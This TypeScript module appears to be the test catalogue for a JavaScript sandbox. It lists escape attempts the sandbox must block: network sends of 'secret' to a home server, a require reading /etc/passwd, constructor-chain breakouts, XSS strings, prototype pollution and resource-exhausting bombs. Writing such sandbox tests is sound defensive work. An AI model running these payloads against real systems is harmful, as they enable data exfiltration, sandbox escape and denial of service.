/** What a stranger's program may try. `home` is a server that must hear nothing. Each is the body of an activity. */
export const NETWORK: Record<string, (home: string) => string> = {
  fetch: (home) => `return await (await fetch('${home}/fetch')).text();`,
  'fetch with a method': (home) =>
    `return await fetch('${home}/post', { method: 'POST', body: 'secret', mode: 'no-cors' });`,
  XMLHttpRequest: (home) =>
    `const x = new XMLHttpRequest(); x.open('GET', '${home}/xhr', false); x.send(); return x.responseText;`,
  WebSocket: (home) => `return String(new WebSocket('${home.replace('http', 'ws')}/ws'));`,
  EventSource: (home) => `return String(new EventSource('${home}/events'));`,
  sendBeacon: (home) => `return navigator.sendBeacon('${home}/beacon', 'secret');`,
  'eval of an import': (home) => `return await (0, eval)("import('${home}/module.js')");`,
  importScripts: (home) => `importScripts('${home}/script.js');`,
  Worker: (home) => `return String(new Worker('${home}/worker.js'));`,
  'a worker of a blob': (home) =>
    `return String(new Worker(URL.createObjectURL(new Blob(["fetch('${home}/blob')"]))));`,
  SharedWorker: (home) => `return String(new SharedWorker('${home}/shared.js'));`,
  navigation: (home) => `location.href = '${home}/location'; return 'went';`,
  'navigation of the top': (home) => `top.location.href = '${home}/top'; return 'went';`,
  'window.open': (home) => `return String(window.open('${home}/open'));`,
  'a form': (home) =>
    `const f = document.createElement('form'); f.action = '${home}/form'; document.body.append(f); f.submit(); return 'sent';`,
  'a picture': (home) => `new Image().src = '${home}/image'; return 'asked';`,
  'a beacon in a style': (home) =>
    `document.body.style.background = 'url(${home}/style)'; return 'asked';`,
  WebTransport: (home) =>
    `return String(new WebTransport('${home.replace('http:', 'https:')}/wt'));`,
  RTCPeerConnection: (home) =>
    `return String(new RTCPeerConnection({ iceServers: [{ urls: 'stun:${home.slice(7)}' }] }));`,
  'the real fetch by its constructor': (home) =>
    `return await fetch.constructor('return this.fetch || globalThis.fetch')()('${home}/constructor');`,
};

/** What is refused before anything runs: the page says what can not be loaded. */
export const REFUSED: Record<string, (home: string) => string> = {
  'import()': (home) => `return Object.keys(await import('${home}/module.js'));`,
  require: () => `return require('fs').readFileSync('/etc/passwd', 'utf8');`,
};

/** Each is the body of an activity that answers with what it got; nothing of it may be real. */
export const REACH: Record<string, string> = {
  localStorage: `localStorage.setItem('escaped', '1'); return 'escaped';`,
  sessionStorage: `sessionStorage.setItem('escaped', '1'); return 'escaped';`,
  indexedDB: `indexedDB.open('escaped'); return 'escaped';`,
  cookies: `document.cookie = 'escaped=1'; return 'escaped';`,
  caches: `await caches.open('escaped'); return 'escaped';`,
  'the page': `parent.document.title = 'escaped'; return 'escaped';`,
  'a message to the page': `parent.postMessage({ kind: 'steps', id: 1, steps: [] }, '*'); return 'escaped';`,
  'a message of the worker': `postMessage({ kind: 'done', id: 1 }); self.postMessage({ kind: 'done', id: 1 }); return 'escaped';`,
  'constructor.constructor': `const g = (() => {}).constructor.constructor('return this')(); return [typeof g.window, typeof g.document, typeof g.postMessage, typeof g.XMLHttpRequest].every((t) => t === 'undefined') ? 'nothing' : 'escaped';`,
  'a generator constructor': `const g = (function* () {}).constructor('yield this')().next().value; return g && (g.document || g.postMessage) ? 'escaped' : 'nothing';`,
  'the prototypes of an error': `try { null.x } catch (e) { const g = e.constructor.constructor('return this')(); return g.document || g.postMessage ? 'escaped' : 'nothing'; }`,
  'the stack of an error': `Error.prepareStackTrace = (e, frames) => frames; const s = new Error('x').stack; return s && s[0] && s[0].getThis && s[0].getThis() ? 'escaped' : 'nothing';`,
  'a shared buffer as a clock': `return typeof SharedArrayBuffer === 'undefined' || typeof Atomics === 'undefined' || typeof Worker === 'undefined' ? 'nothing' : 'escaped';`,
  // The clock of the run moves a little with each look at it, and knows nothing of the work between.
  'a fine clock': `const took = (work) => { const from = performance.now(); for (let i = 0; i < work; i += 1) Math.sqrt(i); return performance.now() - from; }; let light = 0; let heavy = 0; for (let round = 0; round < 10; round += 1) { light += took(10); heavy += took(100_000); } return heavy > 3 * light ? 'escaped' : 'nothing';`,
  'require under another name': `const name = 'requ' + 'ire'; return typeof globalThis[name] === 'function' && globalThis[name]('fs') ? 'escaped' : 'nothing';`,
  'eval of the outside': `return (0, eval)('typeof document') === 'undefined' ? 'nothing' : 'escaped';`,
};

/** Results that a careless page would trip over. */
export const RESULTS: Record<string, string> = {
  'a prototype': `return JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}');`,
  'a getter': `return { get x() { throw new Error('a getter'); } };`,
  'a proxy': `return new Proxy({}, { get() { throw new Error('a trap'); }, ownKeys() { throw new Error('a trap'); } });`,
  'a proxy without an end': `const p = new Proxy({}, { get: () => p, ownKeys: () => ['a'], getOwnPropertyDescriptor: () => ({ value: p, enumerable: true, configurable: true }) }); return p;`,
  'a circle': `const o = {}; o.o = o; return o;`,
  'a toJSON': `return { toJSON() { return { toJSON() { throw new Error('again'); } }; } };`,
  'a huge text': `return 'x'.repeat(30_000_000);`,
  'a deep list': `let o = []; for (let i = 0; i < 100_000; i += 1) o = [o]; return o;`,
  HTML: `return '<img src=x onerror="document.title=\\'escaped\\'"><script>document.title="escaped"</script>';`,
  'an error of HTML': `throw new Error('<img src=x onerror="document.title=\\'escaped\\'">'.repeat(3));`,
  'an error that is none': `throw { message: { toString() { throw 1; } }, name: new Proxy({}, {}), stack: 1n };`,
};

/** What takes all of something. The body stands in an activity, and in the workflow itself. */
export const BOMBS: Record<string, string> = {
  'an endless loop': `for (;;);`,
  'endless microtasks': `const again = () => Promise.resolve().then(again); await again(); await new Promise(() => again());`,
  'an endless generator': `for (const _ of (function* () { for (;;) yield 1; })());`,
  'a slow pattern': `/^(a+)+$/.test('a'.repeat(60) + 'b');`,
  memory: `const all = []; for (;;) all.push(new Array(1_000_000).fill(all.length));`,
  'one large buffer': `return new ArrayBuffer(2 ** 31 - 1).byteLength + new Uint8Array(2 ** 31 - 1).length;`,
  'a doubling text': `let s = 'x'; for (;;) s += s;`,
  'the stack': `const f = () => f() + 1; return f();`,
  'the stack of the parser': `return eval('['.repeat(200_000));`,
  'a sort that never ends': `return [1, 2, 3].sort(() => { for (;;); });`,
};
